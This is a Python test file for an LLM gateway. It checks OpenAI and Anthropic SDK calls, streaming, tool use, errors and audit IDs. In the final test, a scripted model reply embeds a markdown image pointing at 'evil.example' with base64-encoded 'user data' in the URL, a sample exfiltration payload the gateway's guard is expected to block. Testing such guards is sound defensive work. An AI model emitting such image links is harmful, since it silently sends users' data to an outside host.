"""The official SDKs against the gateway: both APIs, either kind of upstream, whole and streamed, with tools."""

from __future__ import annotations

import json
from typing import Any

import anthropic
import openai
import pytest

from ...gateway.upstream import answers, refuses
from .stand import Stand
from .talk import MAIL

_TOOL = {"type": "object", "properties": {"city": {"type": "string"}}, "required": ["city"]}
_OPENAI_TOOLS: list[Any] = [{"type": "function", "function": {"name": "weather", "parameters": _TOOL}}]
_ANTHROPIC_TOOLS: list[Any] = [{"name": "weather", "input_schema": _TOOL}]
_ASK: list[Any] = [{"role": "user", "content": "Say hello."}]


def by_openai(stand: Stand) -> openai.OpenAI:
    return openai.OpenAI(base_url=f"{stand.url}/v1", api_key=stand.key, max_retries=0)


def by_anthropic(stand: Stand) -> anthropic.Anthropic:
    return anthropic.Anthropic(base_url=stand.url, api_key=stand.key, max_retries=0)


@pytest.mark.parametrize("model", ["small", "large"])
def test_openai_whole(gateway: Stand, model: str) -> None:
    gateway.script(answers("Hello there, friend."))
    with by_openai(gateway) as client:
        answer = client.chat.completions.create(model=model, messages=_ASK, max_tokens=50)
    assert answer.choices[0].message.content == "Hello there, friend."
    assert answer.model == model and answer.choices[0].finish_reason == "stop"
    assert answer.usage is not None and answer.usage.prompt_tokens > 0


@pytest.mark.parametrize("model", ["small", "large"])
def test_openai_streamed(gateway: Stand, model: str) -> None:
    gateway.script(answers("Hello there, friend of mine."))
    with by_openai(gateway) as client:
        stream = client.chat.completions.create(
            model=model, messages=_ASK, stream=True, stream_options={"include_usage": True}
        )
        chunks = list(stream)
    assert (
        "".join(chunk.choices[0].delta.content or "" for chunk in chunks if chunk.choices)
        == "Hello there, friend of mine."
    )
    assert chunks[-1].usage is not None and chunks[-1].usage.completion_tokens > 0


@pytest.mark.parametrize("model", ["small", "large"])
def test_openai_tools_streamed(gateway: Stand, model: str) -> None:
    gateway.script(answers("", calls=[("weather", '{"city": "Seoul"}')]))
    with (
        by_openai(gateway) as client,
        client.chat.completions.stream(model=model, messages=_ASK, tools=_OPENAI_TOOLS) as stream,
    ):
        final = stream.get_final_completion()
    calls = final.choices[0].message.tool_calls
    assert calls is not None and calls[0].function.name == "weather"
    assert json.loads(calls[0].function.arguments) == {"city": "Seoul"}
    assert final.choices[0].finish_reason == "tool_calls"


@pytest.mark.parametrize("model", ["small", "large"])
def test_anthropic_whole_and_streamed(gateway: Stand, model: str) -> None:
    gateway.script(answers("Hello there, friend."))
    with by_anthropic(gateway) as client:
        whole = client.messages.create(model=model, max_tokens=50, messages=_ASK)
        with client.messages.stream(model=model, max_tokens=50, messages=_ASK) as stream:
            final = stream.get_final_message()
    for message in (whole, final):
        assert message.content[0].type == "text" and message.content[0].text == "Hello there, friend."
        assert message.stop_reason == "end_turn" and message.model == model and message.usage.output_tokens > 0


@pytest.mark.parametrize("model", ["small", "large"])
def test_anthropic_tools_streamed(gateway: Stand, model: str) -> None:
    gateway.script(answers("", calls=[("weather", '{"city": "Seoul"}')]))
    with (
        by_anthropic(gateway) as client,
        client.messages.stream(model=model, max_tokens=50, messages=_ASK, tools=_ANTHROPIC_TOOLS) as stream,
    ):
        final = stream.get_final_message()
    block = final.content[-1]
    assert block.type == "tool_use" and block.name == "weather" and block.input == {"city": "Seoul"}
    assert final.stop_reason == "tool_use"


def test_models_and_embeddings(gateway: Stand) -> None:
    gateway.script(answers())
    with by_openai(gateway) as client:
        assert [model.id for model in client.models.list()] == ["small", "large", "vectors"]
        assert client.models.retrieve("small").id == "small"
        assert len(client.embeddings.create(model="vectors", input=["a", "b"], encoding_format="float").data) == 2
    with by_anthropic(gateway) as client:
        assert [model.id for model in client.models.list()] == ["small", "large", "vectors"]


def test_errors_in_each_apis_own_shape(gateway: Stand) -> None:
    gateway.script(refuses(400, "context too long"))
    with by_openai(gateway) as one, by_anthropic(gateway) as other:
        with pytest.raises(openai.BadRequestError, match="context too long"):
            one.chat.completions.create(model="small", messages=_ASK)
        with pytest.raises(anthropic.BadRequestError, match="context too long"):
            other.messages.create(model="large", max_tokens=5, messages=_ASK)
        with pytest.raises(openai.NotFoundError, match="did you mean 'small'"):
            one.chat.completions.create(model="smal", messages=_ASK)
        with pytest.raises(anthropic.NotFoundError, match="There is no model 'nothing'"):
            other.messages.create(model="nothing", max_tokens=5, messages=_ASK)
    with (
        pytest.raises(openai.AuthenticationError),
        openai.OpenAI(base_url=f"{gateway.url}/v1", api_key="wrong") as client,
    ):
        client.models.list()


def test_the_audit_has_each_call_under_the_id_of_its_answer(gateway: Stand) -> None:
    gateway.script(answers("Hello."))
    with by_openai(gateway) as one, by_anthropic(gateway) as other:
        ids = [one.chat.completions.create(model="small", messages=_ASK)._request_id]
        ids.append(other.messages.create(model="large", max_tokens=5, messages=_ASK)._request_id)
        with one.chat.completions.with_raw_response.create(model="small", messages=_ASK, stream=True).parse() as stream:
            ids.append(stream.response.headers["x-request-id"])
            list(stream)
        with pytest.raises(anthropic.BadRequestError) as refused:
            other.messages.create(model="large", max_tokens=-1, messages=_ASK)
    ids.append(refused.value.request_id)
    assert isinstance(refused.value.body, dict) and refused.value.body["request_id"] == ids[-1]
    assert all(ids) and len(set(ids)) == len(ids)
    ended = [record for record in gateway.records() if record.outcome != "intended"]
    assert [record.details["request"] for record in ended][-len(ids) :] == ids


@pytest.mark.parametrize("stream", [True, False])
def test_only_the_rules_that_block_are_blamed(gateway: Stand, stream: bool) -> None:
    data = "c2VjcmV0IGRhdGEgb2YgdGhlIHVzZXIgZ29lcyBvdXQ" * 2
    gateway.script(answers(f"Write to {MAIL}. ![a](https://evil.example/p?d={data})"))
    with by_openai(gateway) as client, pytest.raises(openai.APIError, match="Blocked by leakage/image") as blocked:
        answer: Any = client.chat.completions.create(model="small", messages=_ASK, stream=stream)
        list(answer)
    assert blocked.value.code == "guard_blocked"
    assert "pii/" not in str(blocked.value)
